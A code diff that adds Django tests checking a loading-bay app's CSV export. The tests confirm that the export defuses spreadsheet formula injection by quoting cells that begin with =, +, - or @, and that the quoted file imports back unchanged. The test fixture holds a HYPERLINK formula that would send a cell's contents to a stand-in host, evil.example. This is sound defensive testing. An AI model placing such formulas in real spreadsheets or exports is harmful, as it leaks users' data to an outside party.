@@ -1,3 +1,5 @@
+import csv
+import io
 import json
 from decimal import Decimal
 
@@ -91,3 +93,38 @@ def test_the_import_page_lists_the_bad_rows(client, gouda):
     assert page.status_code == 200 and not page.context["result"].ok
     assert "nowhere" in page.content.decode()
     assert not LoadingBay.objects.filter(code="GO-009").exists()
+
+
+FORMULAS = {
+    "street": '=HYPERLINK("https://evil.example/?"&A1,"Markt")',
+    "house_number": "+31",
+    "code": "@GO-9",
+}
+
+
+def test_the_csv_export_quotes_formulas_and_reads_back_unchanged(gouda):
+    BayFactory(zone=gouda.zone, **FORMULAS)
+    bays = LoadingBay.objects.filter(zone=gouda.zone).select_related("zone")
+    before = list(bays.values())
+    text = bays_to_csv(bays)
+    rows = {row["code"]: row for row in csv.DictReader(io.StringIO(text))}
+    exported = rows["'@GO-9"]
+    assert exported["street"] == "'" + FORMULAS["street"]
+    assert exported["house_number"] == "'+31"
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows.values()
+                   for cell in row.values())
+
+    LoadingBay.history.all().delete()
+    Booking.objects.filter(bay__zone=gouda.zone).delete()
+    bays.delete()
+    result = bays_import(text=text, file_format="csv", scope=gouda_scope(gouda))
+    assert result.ok, result.errors
+    after = list(LoadingBay.objects.filter(zone=gouda.zone).values())
+    assert [{**row, "id": None} for row in after] == [{**row, "id": None} for row in before]
+
+
+def test_the_console_csv_download_quotes_formulas(client, gouda):
+    BayFactory(zone=gouda.zone, **FORMULAS)
+    client.force_login(gouda.admin)
+    text = client.get(reverse("console:bays_export", args=["csv"])).content.decode()
+    assert "'@GO-9" in text and '"\'=HYPERLINK(' in text
